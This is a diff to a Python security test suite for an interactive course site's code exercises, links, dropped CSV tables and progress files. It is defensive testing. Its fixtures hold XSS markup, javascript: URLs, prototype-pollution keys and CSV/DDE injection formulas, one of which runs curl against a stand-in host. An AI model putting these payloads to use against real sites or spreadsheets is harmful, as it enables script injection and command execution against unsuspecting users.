@@ -1,7 +1,13 @@
-"""Programs that a hostile hand may have written into an exercise, or into a file of progress that somebody loads.
+"""What a hostile hand may have written: programs, links, tables and files of progress, which somebody opens in good faith.
 
-Each wants to reach another host, `OTHER`, or what lies beyond the worker that it runs in.
+Each wants to reach another host, `OTHER`, to run something in the page, or to leave its own worker.
 """
+
+import contextlib
+import json
+from urllib.parse import quote
+
+from web import Handler, serve
 
 OTHER = "OTHER"  # in a program, the address of another origin
 MARKUP = "<img src=OTHERprinted onerror=hacked=1><script>hacked=1</script>"
@@ -71,3 +77,93 @@ SHOWS = {  # markup, as what a program prints, is worth or gets wrong
     "a line of markup": f"1 / 0  # {MARKUP}",
 }
 PROGRAMS = {name: JS + TO_JS + source for name, source in (ASKS | REACHES).items()} | SHOWS
+
+EXERCISE = '[data-exercise="neuron-weighted-sum"]'
+# What a page has, keeps and is, of which no program may change anything.
+KEPT = """async () => [document.title, location.href, document.cookie, JSON.stringify({ ...localStorage, ...sessionStorage }),
+    "hacked" in window, (await indexedDB.databases()).map(({ name }) => name),
+    (await caches.keys()).filter(name => /hacked|mine/.test(name)),
+    (await navigator.serviceWorker.getRegistrations()).map(({ active }) => active?.scriptURL)]"""
+
+
+@contextlib.contextmanager
+def another_origin(folder):
+    """Serve an empty folder, and note who asks; the value is the address, and the list of what was asked for."""
+    asked = []
+
+    class Noting(Handler):
+        def handle_one_request(self):
+            super().handle_one_request()
+            asked.append(getattr(self, "path", "something"))
+
+    with serve(folder, Noting) as address:
+        yield address, asked
+
+
+def run(cell, source):
+    """Run a program in an exercise."""
+    cell.get_by_role("textbox").fill(source)
+    cell.get_by_role("button", name="Run", exact=True).click()
+    cell.locator('xpath=self::*[@data-state="ready"]').wait_for(timeout=120_000)
+
+
+def tried(page, address, asked, programs=PROGRAMS):
+    """Run every program in an exercise of an open page, and return what they have reached, {program: what}."""
+    cell, reached = page.locator(EXERCISE), {}
+    run(cell, "6 * 7")
+    cell.locator(".nn-value", has_text="42").wait_for(timeout=60_000)
+    page.evaluate("() => { new BroadcastChannel('all').onmessage = () => { window.hacked = 1; }; }")
+    before = page.evaluate(KEPT)
+    for name, source in programs.items():
+        run(cell, source.replace(OTHER, address))
+        page.wait_for_timeout(50)
+        now = page.evaluate(KEPT)
+        kept, now[3] = now[3], before[3]  # the program itself is kept, as the reader's
+        others = [one for one in json.loads(kept) if not one.startswith("nnlib ")]
+        if asked or now != before or len(page.context.pages) > 1 or "hacked" in others:
+            reached[name] = [[*asked], now, others]
+            asked.clear()
+    page.wait_for_timeout(1000)
+    if asked:
+        reached["later"] = [*asked]
+    return reached
+
+
+_SETTINGS = [{"task": MARKUP}, {MARKUP: 1}, {"w1": MARKUP}, {"__proto__": {"task": MARKUP}}, {"constructor": MARKUP}]
+LINKS = [  # of the book's pages, with what a hand has written into them
+    *(f"chapters/neuron.html?tune_a_neuron={quote(json.dumps(settings))}" for settings in _SETTINGS),
+    *(f"embed/tune_a_neuron.html?tune_a_neuron={quote(json.dumps(settings))}" for settings in _SETTINGS),
+    f"chapters/neuron.html?tune_a_neuron={quote(MARKUP)}",
+    "chapters/neuron.html?tune_a_neuron=javascript:hacked=1",
+    f"chapters/neuron.html?present={quote(MARKUP)}#{quote(MARKUP)}",
+    f"chapters/neuron.html#{quote(MARKUP)}",
+    f"chapters/neuron.html?{quote(MARKUP)}=1",
+    f"embed/tune_a_neuron.html?theme={quote(MARKUP)}",
+    f"embed/tune_a_neuron.html?hide={quote(MARKUP)}",
+    "embed/tune_a_neuron.html?theme=javascript:hacked=1&hide=../../OTHERhide",
+    f"search.html?q={quote(MARKUP)}",
+    "search.html?q=javascript:hacked=1",
+    f"404.html?{quote(MARKUP)}#{quote(MARKUP)}",
+]
+TABLES = [  # that a reader drops on a figure
+    f"{MARKUP},b,kind\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
+    f"a,b,kind\n1,2,{MARKUP}\n3,4,y\n5,6,{MARKUP}\n7,8,y",
+    f"a,b,kind\n1,{MARKUP},x\n3,4,y",
+    'a,b,kind\n1,2,"=HYPERLINK(""OTHERformula"")"\n3,4,y\n5,6,y\n7,8,"=WEBSERVICE(""OTHERformula"")"',
+    "=cmd|'/C curl OTHERcmd'!A0,b,kind\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
+    "__proto__,constructor,toString\n1,2,x\n3,4,y\n5,6,x\n7,8,y",
+    "a,b,kind\n1,2,javascript:hacked=1\n3,4,OTHERaddress\n5,6,javascript:hacked=1\n7,8,OTHERaddress",
+    "a,b,kind\n1e999,-1e999,x\n3,4,y\nnan,inf,x",
+    "a,b,kind\n" + "1,2,\u202e\u0000x\n3,4,\ufeffy\n" * 3,
+    "\0".join(MARKUP),
+    ",".join(f"c{i}" for i in range(3000)) + "\n" + ",".join("1" for _ in range(3000)),
+]
+PROGRESS = {  # a file of progress, each of whose texts is of a hostile hand
+    "version": 1,
+    "read": {MARKUP: True, "chapters/neuron": True},
+    "exercises": {"neuron-weighted-sum": {"source": f"print({MARKUP!r})", "solved": True, "tries": 3}, MARKUP: {}},
+    "questions": {"neuron-quiz-zero": {"chosen": [MARKUP], "right": True, "tries": MARKUP}},
+    "predictions": {"neuron-predict": MARKUP, MARKUP: MARKUP},
+    "times": {"read": {MARKUP: MARKUP}, "exercises": {}, "questions": {}, "predictions": {}},
+    "cleared": MARKUP,
+}
